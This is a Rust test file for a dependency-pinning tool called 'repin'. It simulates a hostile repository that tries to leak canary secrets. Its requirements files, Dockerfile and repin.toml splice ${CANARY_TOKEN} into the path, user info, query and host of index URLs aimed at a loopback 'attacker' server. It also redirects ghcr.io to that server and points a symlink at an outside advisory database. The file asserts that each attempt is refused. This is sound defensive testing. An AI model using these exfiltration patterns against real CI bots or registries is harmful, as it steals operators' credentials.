//! A hostile repository steering the bot's secrets (issue 10): `${VAR}` in index URLs of its
//! requirements files, its Dockerfile's `pip install` and its own `repin.toml`, credentials its
//! configuration names for a registry, a registry it moves to another origin, an advisory
//! database outside it. Canary secrets sit in the environment and in Docker's credentials; the
//! servers are loopback servers written here (`support::loopback`) that record every request.
//! A canary must never reach them (path, query, headers, user info) nor appear in any output;
//! what the operator allowed with `--allow-env` goes to the allowed origin only.

use std::ffi::OsStr;
use std::path::Path;

use base64::Engine;

use crate::support::loopback::{Loopback, Reply, Seen};
use crate::support::repin_with_env;

const CANARY: &str = "ghs_CanaryToken-4f1d";
const JSON: &str = "application/vnd.pypi.simple.v1+json";

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn write(dir: &Path, name: &str, content: &str) {
    let path = dir.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

/// Every form a canary could travel in: plain, base64 (alone and as `user:canary` of a Basic
/// header, for the user names a test uses), percent-encoded.
fn forms(secret: &str) -> Vec<String> {
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD_NO_PAD.encode(s);
    let encoded: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let mut forms = vec![secret.to_owned(), encoded, b64(secret)];
    for user in ["u", "user", "<token>", ""] {
        forms.push(b64(&format!("{user}:{secret}")));
        forms.push(b64(&format!("{secret}:")));
    }
    forms
}

/// Whether a request carries `secret` anywhere.
fn carries(seen: &Seen, secret: &str) -> bool {
    let all = format!(
        "{} {}\n{}\n{}",
        seen.method,
        seen.path,
        seen.headers
            .iter()
            .map(|(n, v)| format!("{n}: {v}"))
            .collect::<Vec<_>>()
            .join("\n"),
        String::from_utf8_lossy(&seen.body)
    );
    forms(secret).iter().any(|f| all.contains(f.as_str()))
}

/// An index and a registry in one: `victim` 1.0 and 2.0 as PEP 691 JSON; a registry that wants
/// Basic credentials.
fn server() -> Loopback {
    Loopback::start(|seen| {
        let path = seen.path.split('?').next().unwrap_or_default();
        if path.starts_with("/v2/") {
            return Reply::status(401, r#"{"errors":[{"code":"UNAUTHORIZED"}]}"#)
                .with_header("WWW-Authenticate", "Basic realm=\"registry\"");
        }
        if path.ends_with("/victim/") {
            let file = |v: &str| {
                format!(
                    r#"{{"filename":"victim-{v}-py3-none-any.whl","url":"victim-{v}-py3-none-any.whl","hashes":{{"sha256":"{}"}}}}"#,
                    "a".repeat(64)
                )
            };
            let body = format!(
                r#"{{"meta":{{"api-version":"1.1"}},"name":"victim","versions":["1.0","2.0"],"files":[{},{}]}}"#,
                file("1.0"),
                file("2.0")
            );
            return Reply::ok(JSON, body.into_bytes());
        }
        Reply::status(404, "not found")
    })
}

fn assert_clean(what: &str, output: &str) {
    for form in forms(CANARY) {
        assert!(
            !output.contains(&form),
            "{what}: `{form}` leaked:\n{output}"
        );
    }
}

#[test]
fn a_hostile_repository_cannot_send_the_environments_secrets_anywhere() {
    let attacker = server();
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let (host, url) = (attacker.host(), attacker.url(""));
    // Every slot a URL has, each in a file of its own (a file's `-i` applies to its own
    // requirements); `clean.txt` is the control that must keep working.
    let files = [
        (
            "path.txt",
            format!("--index-url {url}/${{CANARY_TOKEN}}/simple/\nvictim==1.0\n"),
        ),
        (
            "userinfo.txt",
            format!("--index-url http://u:${{CANARY_TOKEN}}@{host}/simple/\nvictim==1.0\n"),
        ),
        (
            "query.txt",
            format!(
                "-i {url}/simple/\n--extra-index-url {url}/extra/?token=${{CANARY_TOKEN}}\nvictim==1.0\n"
            ),
        ),
        (
            "host.txt",
            "--index-url http://${CANARY_HOST}/simple/\nvictim==1.0\n".to_owned(),
        ),
        (
            "find-links.txt",
            format!("-i {url}/simple/\n-f {url}/links/${{CANARY_TOKEN}}/\nvictim==1.0\n"),
        ),
        ("clean.txt", format!("-i {url}/simple/\nvictim==1.0\n")),
    ];
    for (name, content) in &files {
        write(repo.path(), &format!("requirements/{name}"), content);
    }
    // The repository's own configuration: the primary index with the canary as its password
    // (used by `config.txt`, which has no `-i`), the registry's credentials from the canary,
    // ghcr.io moved to the attacker (Docker holds a canary credential for ghcr.io).
    write(repo.path(), "requirements/config.txt", "victim==1.0\n");
    write(
        repo.path(),
        "repin.toml",
        &format!(
            "[[indexes]]\nurl = \"{url}/config/\"\nprimary = true\npassword-env = \"CANARY_TOKEN\"\n\n[registries.\"{host}\"]\nusername-env = \"CANARY_USER\"\npassword-env = \"CANARY_TOKEN\"\n\n[registries.\"ghcr.io\"]\nurl = \"{url}\"\n\n[advisories]\nsource = \"off\"\n\n[network]\nretries = 0\n"
        ),
    );
    write(
        repo.path(),
        "Dockerfile",
        &format!(
            "FROM {host}/library/python:3.12-slim\nFROM ghcr.io/acme/base:1.0\nFROM {host}/library/python:${{CANARY_TOKEN}}\nRUN pip install -i {url}/${{CANARY_TOKEN}}/simple/ victim==1.0\n"
        ),
    );
    let docker = home.path().join(".docker");
    std::fs::create_dir_all(&docker).unwrap();
    let stored = base64::engine::general_purpose::STANDARD.encode(format!("user:{CANARY}"));
    write(
        &docker,
        "config.json",
        &format!("{{\"auths\":{{\"ghcr.io\":{{\"auth\":\"{stored}\"}}}}}}"),
    );
    let outputs = outside.path().join("outputs");
    let summary = outside.path().join("summary.md");
    let env: Vec<(&str, &OsStr)> = vec![
        ("CANARY_TOKEN", OsStr::new(CANARY)),
        ("CANARY_USER", OsStr::new("u")),
        ("CANARY_HOST", OsStr::new(&host)),
        ("GITHUB_TOKEN", OsStr::new(CANARY)),
        ("DOCKER_CONFIG", docker.as_os_str()),
        ("GITHUB_ACTIONS", OsStr::new("true")),
        ("GITHUB_OUTPUT", outputs.as_os_str()),
        ("GITHUB_STEP_SUMMARY", summary.as_os_str()),
    ];
    let dir = repo.path().to_str().unwrap();
    let out = repin_with_env(
        home.path(),
        &[
            "check",
            "--no-cache",
            "--format",
            "json",
            "--log-level",
            "debug",
            dir,
        ],
        &env,
    );
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_clean("stdout", &stdout);
    assert_clean("stderr", &stderr);
    for file in [&outputs, &summary] {
        assert_clean(
            "outputs",
            &std::fs::read_to_string(file).unwrap_or_default(),
        );
    }
    let requests = attacker.requests();
    for seen in &requests {
        assert!(
            !carries(seen, CANARY),
            "the canary reached the server: {seen:?}"
        );
    }

    // The JSON document, then GitHub's annotations.
    let report: serde_json::Value = serde_json::Deserializer::from_str(&stdout)
        .into_iter()
        .next()
        .and_then(Result::ok)
        .unwrap_or_else(|| panic!("{stdout}\n{stderr}"));
    let errors = report["errors"].as_array().unwrap();
    let error_of = |file: &str| -> String {
        errors
            .iter()
            .filter(|e| e["file"].as_str().unwrap().ends_with(file))
            .map(|e| e["message"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
            .join("\n")
    };
    // The advice travels apart from the message, as `hints`.
    let hints_of = |file: &str| -> Vec<String> {
        errors
            .iter()
            .filter(|e| e["file"].as_str().unwrap().ends_with(file))
            .flat_map(|e| e["hints"].as_array().unwrap().iter())
            .map(|h| h.as_str().unwrap().to_owned())
            .collect()
    };
    // Each refusal names the place, the variable, the origin, and the flag that would allow it.
    let place = |file: &str, line: usize, column: usize| {
        format!("{dir}/requirements/{file}:{line}:{column}")
    };
    for (file, line, column) in [
        ("path.txt", 1, 13),
        ("userinfo.txt", 1, 13),
        ("query.txt", 2, 19),
    ] {
        let message = error_of(file);
        assert!(
            message.contains(&format!(
                "Refused to expand `${{CANARY_TOKEN}}` in the index URL at {}: the operator has not allowed it to be sent to {url}",
                place(file, line, column)
            )),
            "{file}: {message}"
        );
        assert!(!message.contains("hint:"), "{file}: {message}");
        assert!(
            hints_of(file).iter().any(|h| h.starts_with(&format!(
                "if {url} may receive it, run repin with --allow-env CANARY_TOKEN@{url}"
            ))),
            "{file}: {:?}",
            hints_of(file)
        );
    }
    let host_error = error_of("host.txt");
    assert!(
        host_error.contains("Refused to expand `${CANARY_HOST}` in the index URL")
            && host_error.contains("a variable in the host part decides where the URL goes"),
        "{host_error}"
    );
    let config_error = error_of("config.txt");
    assert!(
        config_error.contains(&format!(
            "Refused to expand `${{CANARY_TOKEN}}` in the `[[indexes]]` URL of repin.toml (with its username-env and password-env) at {dir}/repin.toml:2:7"
        )),
        "{config_error}"
    );
    let docker_error = error_of("Dockerfile");
    assert!(
        docker_error.contains(&format!("Refused to expand `${{CANARY_USER}}` in `[registries.\"{host}\"]` of repin.toml at {dir}/repin.toml:7:16")),
        "{docker_error}"
    );
    assert!(
        docker_error.contains(&format!(
            "Refused to expand `${{CANARY_TOKEN}}` in the index URL at {dir}/Dockerfile:4:20"
        )),
        "{docker_error}"
    );
    // The control and the file whose `-f` repin never reads were looked up, on the clean URL.
    let up_to_date_or_updated = report["updates"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|u| u["name"] == "victim")
        .map(|u| u["file"].as_str().unwrap().to_owned())
        .collect::<Vec<_>>();
    for file in ["clean.txt", "find-links.txt"] {
        assert!(
            up_to_date_or_updated.iter().any(|f| f.ends_with(file)),
            "{file} was not looked up: {up_to_date_or_updated:?}\n{stdout}"
        );
    }
    // ghcr.io moved to the server: it was asked, and got no credential at all.
    let ghcr: Vec<&Seen> = requests
        .iter()
        .filter(|s| s.path.starts_with("/v2/"))
        .collect();
    assert!(
        !ghcr.is_empty(),
        "the moved registry was never asked: {requests:?}"
    );
    assert!(
        ghcr.iter().all(|s| s.header("authorization").is_none()),
        "{ghcr:?}"
    );
}

#[test]
fn an_allowed_variable_goes_to_its_origin_and_nowhere_else() {
    let index = server();
    let attacker = server();
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    write(
        repo.path(),
        "requirements.txt",
        &format!(
            "--index-url http://user:${{CANARY_TOKEN}}@{}/simple/\nvictim==1.0\n",
            index.host()
        ),
    );
    write(
        repo.path(),
        "dev/requirements.txt",
        &format!(
            "--index-url {}/simple/${{CANARY_TOKEN}}/\nvictim==1.0\n",
            attacker.url("")
        ),
    );
    write(
        repo.path(),
        "repin.toml",
        "[advisories]\nsource = \"off\"\n\n[network]\nretries = 0\n",
    );
    let allowed = format!("CANARY_TOKEN@{}", index.url(""));
    let out = repin_with_env(
        home.path(),
        &[
            "check",
            "--no-cache",
            "--log-level",
            "debug",
            repo.path().to_str().unwrap(),
        ],
        &[
            ("CANARY_TOKEN", OsStr::new(CANARY)),
            // Through the environment, as the Action's `allow-env` input passes it.
            (
                "REPIN_ALLOW_ENV",
                OsStr::new(&format!("OTHER@https://pypi.example.com, {allowed}")),
            ),
        ],
    );
    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
    assert_clean("output", &all);
    assert!(all.contains("victim"), "{all}");
    assert!(all.contains("1.0 -> 2.0") || all.contains("2.0"), "{all}");
    // The allowed origin got the credential; it is what proves the test tests something.
    let sent = index.requests();
    assert!(
        sent.iter()
            .any(|s| s.header("authorization").is_some() && carries(s, CANARY)),
        "{sent:?}"
    );
    // The other origin got nothing, not even a request with the variable's place empty.
    assert!(attacker.requests().is_empty(), "{:?}", attacker.requests());
    assert!(
        all.contains(&format!("--allow-env CANARY_TOKEN@{}", attacker.url(""))),
        "{all}"
    );
}

#[test]
fn a_repository_configuration_reads_no_advisory_database_outside_the_repository() {
    let repo = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    // A database outside the repository whose one record would, if read, be quoted.
    write(
        outside.path(),
        "vulns/victim/PYSEC-1.yaml",
        &format!(
            "id: PYSEC-1\nsummary: {CANARY}\naffected:\n- package:\n    ecosystem: PyPI\n    name: victim\n  ranges:\n  - type: ECOSYSTEM\n    events:\n    - introduced: '0'\n"
        ),
    );
    write(repo.path(), "requirements.txt", "victim==1.0\n");
    std::os::unix::fs::symlink(outside.path(), repo.path().join("linked-db")).unwrap();
    for path in [outside.path().to_str().unwrap(), "../outside", "linked-db"] {
        write(
            repo.path(),
            "repin.toml",
            &format!("[advisories]\nsource = \"offline\"\npath = \"{path}\"\n"),
        );
        let out = repin_with_env(
            home.path(),
            &[
                "audit",
                "--offline",
                "--cache-dir",
                home.path().to_str().unwrap(),
                repo.path().to_str().unwrap(),
            ],
            &[],
        );
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert_clean(path, &all);
        assert!(!all.contains("PYSEC-1"), "{path}: {all}");
        assert!(
            all.contains("named by the repository's configuration")
                && all.contains("hint: a repository's `[advisories] path` must be inside the repository; the operator can pass --advisory-db PATH"),
            "{path}: {all}"
        );
    }
    // The operator's flag reads it (the same database, named by the operator).
    let out = repin_with_env(
        home.path(),
        &[
            "audit",
            "--offline",
            "--cache-dir",
            home.path().to_str().unwrap(),
            "--advisory-db",
            outside.path().to_str().unwrap(),
            repo.path().to_str().unwrap(),
        ],
        &[],
    );
    assert!(
        text(&out.stdout).contains("PYSEC-1"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}
